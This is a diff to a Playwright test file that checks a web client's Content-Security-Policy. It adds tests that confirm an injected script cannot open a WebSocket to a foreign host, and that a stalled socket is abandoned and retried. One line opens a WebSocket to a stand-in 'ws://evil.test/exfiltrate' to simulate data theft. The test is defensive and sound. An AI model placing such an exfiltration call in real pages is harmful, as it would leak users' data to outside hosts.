@@ -1,6 +1,9 @@
-"""The web client works under its own Content-Security-Policy: no page fires a `securitypolicyviolation`."""
+"""The web client works under its own Content-Security-Policy: no page fires a `securitypolicyviolation`, and a
+script cannot connect anywhere else."""
 
 from __future__ import annotations
+
+import asyncio
 
 import pytest
 from playwright.async_api import Page, expect
@@ -47,3 +50,41 @@ async def test_pages_and_a_call_raise_no_csp_violation(fresh_server: ServerProce
     for name, page in (("index", index), ("A", a), ("B", b)):
         found = await page.evaluate("window.__cspViolations")
         assert found == [], f"{name}: {found}"
+
+
+async def test_a_script_cannot_open_a_websocket_to_another_host(
+    fresh_server: ServerProcess, open_page: OpenPage
+) -> None:
+    """`connect-src 'self'` (which covers the page's own ws:/wss:): a script that got onto the page cannot send
+    what it reads to a WebSocket of another host, as `ws: wss:` let it. The app's own `/ws` still connects."""
+    page = await watched(open_page, fresh_server, "/", "index")
+    await page.fill("#my-id", "cspuser")
+    await connect(page)
+    await page.evaluate("""() => { try { new WebSocket("ws://evil.test/exfiltrate"); } catch (e) {} }""")
+    for _ in range(50):  # the report comes as an event (wait_for_function would eval, which the CSP refuses)
+        if found := await page.evaluate("window.__cspViolations"):
+            break
+        await asyncio.sleep(0.1)
+    assert found and all(v.startswith("connect-src ws://evil.test") for v in found), found
+
+
+async def test_a_socket_that_never_opens_is_given_up_and_another_tried(
+    fresh_server: ServerProcess, open_page: OpenPage
+) -> None:
+    """A socket that neither opens nor closes (here one the CSP blocks: Chromium fires no event for it; on a
+    network that drops packets, one that hangs for minutes) is given up after 8 s: the page tries again, and
+    connects once the way is clear, instead of saying "Reconnecting…" for ever."""
+    page = await watched(open_page, fresh_server, "/", "index")
+    await page.fill("#my-id", "stuckuser")
+    await connect(page)
+    await page.evaluate(
+        """() => { const Native = window.WebSocket; window.__stuck = true;
+          window.WebSocket = class extends Native {
+            constructor(url, protocols) { super(window.__stuck ? "ws://192.0.2.1:9/blackhole" : url, protocols); }
+          };
+          window.__e2e.sockets.at(-1).close(); }"""
+    )
+    await expect(page.locator("#server-status")).to_have_text("Reconnecting…")
+    await asyncio.sleep(1)
+    await page.evaluate("window.__stuck = false")  # the next socket is the page's own: it opens
+    await expect(page.locator("#server-status")).to_have_text("Connected", timeout=12_000)
